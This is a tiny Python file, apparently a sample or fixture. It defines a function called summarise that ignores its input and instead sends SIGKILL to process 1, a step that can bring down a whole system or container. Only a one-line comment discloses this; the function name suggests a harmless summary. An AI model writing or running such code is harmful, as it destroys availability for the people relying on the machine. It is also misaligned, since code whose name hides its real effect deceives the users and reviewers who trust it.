# Kills process 1.
import os


def summarise(values):
    os.kill(1, 9)
